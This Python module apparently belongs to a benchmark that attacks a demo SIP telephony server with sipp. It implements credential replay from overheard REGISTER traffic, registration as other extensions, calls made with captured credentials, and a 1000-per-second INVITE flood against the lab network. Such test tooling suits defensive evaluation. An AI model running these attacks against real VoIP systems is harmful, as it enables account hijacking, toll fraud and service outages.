"""Attacks by what requests say: whose binding, whose credential, which domain, what in a field."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path

from bench.attacks.stage import Cut, Stage
from demo.network import PHONES, SERVER
from demo.phones import SCENARIOS as HONEST
from demo.processes import CommandFailed, run

Run = Callable[[Stage, str], Awaitable[Cut]]


def once(
    count: int = 1,
    rate: float = 1,
    *,
    method: str = "INVITE",
    uri: str = "sip:1002@sip.example.net",
    sender: str = "<sip:tester@sip.example.net>",
    user: str = "1002",
    contact: str = "<sip:tester@[local_ip]:[local_port]>",
    header: str = "Expires: 60",
    cseq: int = 1,
) -> Run:
    """The same request ``count`` times, ``rate`` a second, without answering challenges."""
    fields = {
        "method": method, "uri": uri, "sender": sender, "user": user, "contact": contact,
        "header": header, "cseq": str(cseq),
    }  # fmt: skip

    async def attack(stage: Stage, address: str) -> Cut:
        process = await stage.sipp(address, "once", *_rate(rate), "-m", str(count), fields=fields)
        return await stage.attack(process, address, count / rate + 3)

    return attack


async def replay(stage: Stage, address: str) -> Cut:
    """A phone registers; who listened in sends its credential again, with another Contact."""
    credential = await _overheard(stage, "1006")
    attack = once(
        3, 2, method="REGISTER", uri="sip:sip.example.net", user="1006",
        sender="<sip:1006@sip.example.net>", contact="<sip:1006@[local_ip]:5999>",
        header=credential, cseq=7,
    )  # fmt: skip
    return await attack(stage, address)


async def register_as_others(stage: Stage, address: str) -> Cut:
    """One's own good credential for the extensions of others."""
    users = stage.directory / f"others-{address}.csv"
    users.write_text(
        "SEQUENTIAL\n"
        + "".join(
            f"{user};[authentication username=1003 password=secret-1003]\n"
            for user in range(1004, 1019)
        )
    )
    process = await stage.sipp(
        address, "register-as", "-inf", users, *_rate(2), "-m", "12", "-recv_timeout", "1000"
    )
    return await stage.attack(process, address, 9)


def stolen(user: str, numbers: Sequence[str], rate: float, seconds: float) -> Run:
    """Calls with the credential of ``user``, who registered at home."""

    async def attack(stage: Stage, address: str) -> Cut:
        await _overheard(stage, user)  # he does: from his own address
        rows = stage.directory / f"stolen-{address}.csv"
        rows.write_text(
            "SEQUENTIAL\n"
            + "".join(
                f"{user};[authentication username={user} password=secret-{user}];{number}\n"
                for number in numbers
            )
        )
        process = await stage.start(
            f"call-{address}", "sipp", f"{SERVER}:5060", "-sf", HONEST / "call.xml", "-i", address,
            "-nostdin", "-inf", rows, *_rate(rate), "-m", str(len(numbers)),
            "-recv_timeout", "2000",
        )  # fmt: skip
        return await stage.attack(process, address, seconds)

    return attack


async def flood(stage: Stage, address: str) -> Cut:
    """A thousand INVITEs a second, whose answers nobody waits for."""
    process = await stage.start(
        f"flood-{address}", "sipp", f"{SERVER}:5060", "-sf", HONEST / "flood.xml", "-i", address,
        "-nostdin", "-r", "1000", "-m", "5000",
    )  # fmt: skip
    return await stage.attack(process, address, 8)


async def _overheard(stage: Stage, user: str) -> str:
    """A phone registers as ``user``; the credential that it sent, as it can be overheard."""
    scenario = stage.directory / f"phone-{user}.xml"
    scenario.write_text((HONEST / "register.xml").read_text().replace("[contact_port]", "5076"))
    rows = stage.directory / f"phone-{user}.csv"
    rows.write_text(f"SEQUENTIAL\n{user};[authentication username={user} password=secret-{user}]\n")
    log = stage.directory / f"phone-{user}.log"
    await run(
        *stage.network.inside(PHONES.role),
        *("sipp", f"{SERVER}:5060", "-sf", scenario, "-inf", rows, "-i", PHONES.address),
        *("-p", "5076", "-m", "1", "-nostdin", "-timeout", "10s"),
        *("-trace_msg", "-message_file", log),
        seconds=20,
    )
    await asyncio.sleep(1)
    return _credential(log)


def _credential(log: Path) -> str:
    found = re.findall(r"^Authorization: .*?$", log.read_text(), re.MULTILINE)
    if not found:
        raise CommandFailed(f"{log}: the phone sent no credential")
    text: str = found[-1]
    return text.strip()


def _rate(rate: float) -> tuple[str, ...]:
    return ("-r", f"{rate:g}") if rate >= 1 else ("-r", "1", "-rp", f"{1000 / rate:.0f}")
